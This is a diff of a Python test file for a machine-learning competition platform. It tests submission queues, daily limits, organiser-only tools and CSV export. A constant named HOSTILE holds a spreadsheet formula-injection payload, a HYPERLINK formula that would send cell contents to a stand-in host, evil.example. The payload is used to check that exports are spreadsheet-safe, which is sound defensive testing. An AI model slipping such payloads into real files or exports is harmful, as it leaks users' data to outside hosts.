@@ -20,9 +20,8 @@ from conftest import (
     rule_prediction,
     running_platform,
     second_user,
-    train_rule_session,
 )
-from nsml.client.api import ApiClient
+from nsml.client.api import ApiClient, ApiError
 from nsml.evaluation.results_table import csv_table
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"win"),\n@SUM(1+1)\r\n"quoted", -2+3'
@@ -82,23 +81,40 @@ def _mine(client: Platform, submission_id: int) -> dict[str, Any]:
     return next(s.model_dump(mode="json") for s in listing.submissions if s.id == submission_id)
 
 
+def _session(client: Platform, name: str) -> dict[str, Any]:
+    """What ``nsml ps -a --json`` shows of one session (in-process, as ``_mine``)."""
+    with _api(client) as api:
+        found = [s for s in api.list_sessions(all=True) if s.name == name]
+    return found[0].model_dump(mode="json")
+
+
+def _wait(client: Platform, name: str, statuses: tuple[str, ...] = ("exited",)) -> dict[str, Any]:
+    return _until(lambda: (lambda s: s if s["status"] in statuses else None)(_session(client, name)), 60)
+
+
+def _trained(client: Platform, script: str, args: str, folder: str) -> str:
+    """A session of ``script`` on cup that ran to its end."""
+    name = client.run(client.project(folder, script), "cup", args)
+    assert _wait(client, name, ("exited", "failed"))["status"] == "exited", client.nsml("logs", name).stdout
+    return name
+
+
 def test_queue_positions_cancel_and_limits(platform: Platform, cup: Platform) -> None:
     pat = cup
-    slow = pat.run(pat.project("slow", RULE_SCRIPT), "cup", "--task kin --behave sleep")
-    assert pat.wait(slow)["status"] == "exited"
+    slow = _trained(pat, RULE_SCRIPT, "--task kin --behave sleep", "slow")
     platform.nsml("dataset", "set", "cup", "--daily-limit", "2")
 
     # a session over pat's one session slot says where it stands and why
     folder = pat.project("constant", TRAIN_2018)
     holder = pat.run(folder, "cup", "--epochs 1000 --sleep 0.1")
     good = pat.run(folder, "cup", "--epochs 1")  # predicts 1 for everything: checkpoint "0"
-    pat.wait(holder, ("running",))
-    queued = pat.session(good)
+    _wait(pat, holder, ("running",))
+    queued = _session(pat, good)
     assert queued["queue_position"] == 1
     assert queued["waiting_for"] == "waits for your session slot (1 of 1 in use)"
     assert "Queued #1 (waits for your session slot (1 of 1 in use))" in pat.nsml("ps").stdout
     pat.nsml("stop", holder)
-    assert pat.wait(good)["status"] == "exited"
+    assert _wait(pat, good)["status"] == "exited"
 
     with _api(pat) as api:
         running = api.submit(slow, "best", 64)
@@ -109,12 +125,13 @@ def test_queue_positions_cancel_and_limits(platform: Platform, cup: Platform) ->
     assert mine["waiting_for"] == "waits for your evaluation slot (1 of 1 in use)"
     assert "queued #1" in pat.nsml("submission", "ls", "cup").stdout
 
-    refused = pat.nsml("submit", good, "0", check=False)
-    assert refused.returncode == 1 and "2 submissions per day" in refused.stderr
+    with _api(pat) as api, pytest.raises(ApiError, match="2 submissions per day"):
+        api.submit(good, "0", 64)
     cancelled = pat.json("submission", "cancel", str(waits.id))
     assert cancelled["status"] == "cancelled" and "does not count" in cancelled["reason"]
     with _api(pat) as api:  # the cancelled one freed its place under the limit
         again = api.submit(good, "0", 64)
+        assert api.get_submission(waits.id).status == "cancelled"
 
     # the organiser sees the whole line, and who holds the slots
     line = platform.json("submission", "queue")
@@ -130,12 +147,13 @@ def test_queue_positions_cancel_and_limits(platform: Platform, cup: Platform) ->
     assert "cancelled by the organiser" in by_organiser["reason"]
     _until(lambda: _mine(pat, again.id)["status"] in ("running", "scored"), timeout=10)
     assert _until(lambda: _mine(pat, again.id)["status"] == "scored")
-    assert pat.json("board", "cup", "--private")["limits"]["used_today"] == 1
+    with _api(pat) as api:
+        assert api.my_submissions("cup").limits.used_today == 1
 
 
 def test_a_participant_cannot_use_the_organisers_tools(platform: Platform, cup: Platform) -> None:
     pat = cup
-    theirs = train_rule_session(platform, "cup", "kin")
+    theirs = _trained(platform, RULE_SCRIPT, "--task kin", "rule")
     with _api(platform) as api:
         submission = api.submit(theirs, "best", 64)
     attacks = {
@@ -180,9 +198,10 @@ def test_results_export_is_complete_and_spreadsheet_safe(
 ) -> None:
     pat = cup
     script = RULE_SCRIPT.replace('"checkpoint format from the future"', repr(HOSTILE))
-    hostile = pat.run(pat.project("hostile", script), "cup", "--task kin --behave loadfail")
-    assert pat.wait(hostile)["status"] == "exited"
-    assert pat.nsml("submit", hostile, "best", check=False).returncode == 1
+    hostile = _trained(pat, script, "--task kin --behave loadfail", "hostile")
+    with _api(pat) as api:
+        failing = api.submit(hostile, "best", 64)
+    _until(lambda: _mine(pat, failing.id)["status"] == "failed")
 
     target = tmp_path / "results.csv"
     platform.nsml("submission", "export", "cup", "-o", str(target))
